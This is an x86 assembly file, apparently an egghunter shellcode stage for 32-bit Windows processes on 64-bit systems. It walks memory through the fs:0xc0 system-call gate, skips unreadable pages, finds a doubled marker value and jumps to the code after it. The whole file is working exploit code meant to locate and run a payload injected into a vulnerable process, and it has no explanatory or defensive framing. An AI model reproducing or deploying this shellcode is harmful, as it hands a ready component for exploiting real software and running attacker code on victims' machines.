; Windows, 32 bit on 64 bit: walks through memory with system calls through the gate at fs:0c0h.
bits 32
        xor edx, edx
page:   or dx, 0xfff
next:   inc edx
        push edx
        push edx
        push edx
        push edx
        xor ecx, ecx
        xor eax, eax
        mov al, 0x26
        mov edx, esp
        call dword [fs:0xc0]
        pop ecx
        pop edx
        pop ecx
        pop ecx
        cmp al, 5
        je page
        mov eax, 0x50905090
        mov edi, edx
        scasd
        jne next
        scasd
        jne next
        jmp edi
